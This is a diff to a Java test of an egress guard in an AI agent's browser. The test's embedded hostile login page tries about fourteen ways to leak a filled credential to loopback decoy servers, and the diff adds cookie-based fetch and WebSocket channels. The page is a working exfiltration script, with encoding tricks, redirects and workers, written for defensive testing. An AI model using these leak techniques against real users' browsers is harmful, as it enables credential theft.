@@ -41,11 +41,14 @@ import org.junit.jupiter.api.Test;
  * The egress guard on real Chromium: a login page on the credential's own origin (127.0.0.1) reads
  * the filled credential and tries fourteen ways to send it to a decoy on a second admitted origin
  * (127.0.0.2, also reached as {@code *.decoy.test} through the test's resolver), one of them
- * through a redirect on a third (127.0.0.3), one through an open redirect of its own origin.
- * Without a secret the same page delivers a harmless value to the decoy on every channel, so the
- * channels work; with the credential filled the decoy gets no byte of it in any encoding, the agent
- * sees page events naming the decoy and the credential's reference, the journal records them, and
- * the credential still reaches its own origin when the form is submitted there.
+ * through a redirect on a third (127.0.0.3), one through an open redirect of its own origin; two
+ * more put it in a cookie of its own host and then ask, by fetch and by a WebSocket's handshake,
+ * for nothing at another port of that host (another origin the browser sends the same cookies to; a
+ * socket's route shows no cookies, so the guard reads them from the jar). Without a secret the same
+ * page delivers a harmless value to the decoy on every channel, so the channels work; with the
+ * credential filled the decoy gets no byte of it in any encoding, the agent sees page events naming
+ * the decoy and the credential's reference, the journal records them, and the credential still
+ * reaches its own origin when the form is submitted there.
  */
 class ExfiltrationCanaryTest {
   static final String SECRET =
@@ -67,7 +70,9 @@ class ExfiltrationCanaryTest {
           "/sub",
           "/redirected",
           "/worker",
-          "/bounced");
+          "/bounced",
+          "/cookie",
+          "/wscookie");
 
   static final String HOSTILE =
       """
@@ -82,7 +87,7 @@ class ExfiltrationCanaryTest {
       <iframe name="sink2" id="sink2" width="50" height="50"></iframe>
       <iframe name="sink3" width="50" height="50"></iframe>
       <script>
-      const D = 'http://127.0.0.2:DPORT', T = 'http://127.0.0.3:TPORT';
+      const D = 'http://127.0.0.2:DPORT', T = 'http://127.0.0.3:TPORT', N = 'http://127.0.0.1:NPORT';
       const b64 = s => btoa(unescape(encodeURIComponent(s)));
       const hex = s => Array.from(new TextEncoder().encode(s)).map(b => b.toString(16).padStart(2, '0')).join('');
       const rev = s => Array.from(s).reverse().join('');
@@ -125,12 +130,20 @@ class ExfiltrationCanaryTest {
         attempt(() => fetch(T + '/redirect?to=' + encodeURIComponent(D + '/redirected?p=' + q), {mode: 'no-cors'}));
         attempt(() => new Worker(URL.createObjectURL(new Blob(
           ["fetch('" + D + "/worker?p=" + q + "', {mode: 'no-cors'}).catch(() => {})"]))));
+        // A cookie of this host goes to every port of it: the request itself carries nothing.
+        document.cookie = 'c=' + hex(s) + '; path=/';
+        setTimeout(() => attempt(() => fetch(N + '/cookie', {mode: 'no-cors', credentials: 'include'})), 100);
+        setTimeout(() => attempt(() => new WebSocket('ws://127.0.0.1:NPORT/wscookie')), 100);
       }
       </script></body></html>""";
 
   static HttpServer site;
   static HttpServer third;
   static Sink decoy;
+
+  /** A decoy on the credential's own host at another port: another origin, the same cookies. */
+  static Sink neighbour;
+
   static final List<String> posted = new CopyOnWriteArrayList<>();
   static final List<byte[]> thirdReceived = new CopyOnWriteArrayList<>();
 
@@ -144,6 +157,7 @@ class ExfiltrationCanaryTest {
   @BeforeAll
   static void start() throws Exception {
     decoy = new Sink(InetAddress.getByName("127.0.0.2"));
+    neighbour = new Sink(InetAddress.getByName("127.0.0.1"));
     third = HttpServer.create(new InetSocketAddress(InetAddress.getByName("127.0.0.3"), 0), 0);
     third.createContext(
         "/redirect",
@@ -163,6 +177,7 @@ class ExfiltrationCanaryTest {
     String page =
         HOSTILE
             .replace("DPORT", String.valueOf(decoy.port()))
+            .replace("NPORT", String.valueOf(neighbour.port()))
             .replace("TPORT", String.valueOf(third.getAddress().getPort()));
     site.createContext("/login", exchange -> LocalBrowser.respond(exchange, page));
     // An open redirect of the credential's own origin: the secret goes to it, and on from it.
@@ -245,6 +260,14 @@ class ExfiltrationCanaryTest {
     site.stop(0);
     third.stop(0);
     decoy.close();
+    neighbour.close();
+  }
+
+  /** The channels of both decoys whose requests carry {@code value}. */
+  static Set<String> channelsCarrying(String value) {
+    Set<String> reached = new TreeSet<>(decoy.channelsCarrying(value));
+    reached.addAll(neighbour.channelsCarrying(value));
+    return reached;
   }
 
   static ToolResult call(String agent, String tool, Map<String, Object> args) {
@@ -271,12 +294,12 @@ class ExfiltrationCanaryTest {
     for (int i = 0; i < 60 && reached.size() < CHANNELS.size(); i++) {
       Thread.sleep(250);
       call("control", "browser_observe", Map.of());
-      reached = decoy.channelsCarrying(harmless);
+      reached = channelsCarrying(harmless);
     }
     assertEquals(
         new TreeSet<>(CHANNELS),
         new TreeSet<>(reached),
-        "every channel works; the decoy saw " + decoy.firstLines());
+        "every channel works; the decoys saw " + decoy.firstLines() + neighbour.firstLines());
   }
 
   @Test
@@ -299,7 +322,7 @@ class ExfiltrationCanaryTest {
                     + decoy.port()
                     + " carrying the secret \"typed-password\" was refused"),
         seen.toString());
-    assertEquals(Set.of(), decoy.channelsCarrying(typed), "the decoy got no byte of it");
+    assertEquals(Set.of(), channelsCarrying(typed), "the decoys got no byte of it");
     assertTrue(thirdReceived.stream().noneMatch(b -> Sink.carries(b, typed)));
     assertFalse(Sink.carries(seen.toString().getBytes(StandardCharsets.UTF_8), typed));
   }
@@ -329,7 +352,10 @@ class ExfiltrationCanaryTest {
     assertTrue(
         events.contains("a request to http://127.0.0.3:" + third.getAddress().getPort()), events);
 
-    assertEquals(Set.of(), decoy.channelsCarrying(SECRET), "the decoy got no byte of it");
+    assertEquals(Set.of(), channelsCarrying(SECRET), "the decoys got no byte of it");
+    assertTrue(
+        events.contains("a request to http://127.0.0.1:" + neighbour.port()),
+        "the cookie's request is refused: " + events);
     assertTrue(
         resolved.stream().noneMatch(n -> Sink.carries(n.getBytes(StandardCharsets.UTF_8), SECRET)),
         "no name carrying it was resolved: " + resolved);
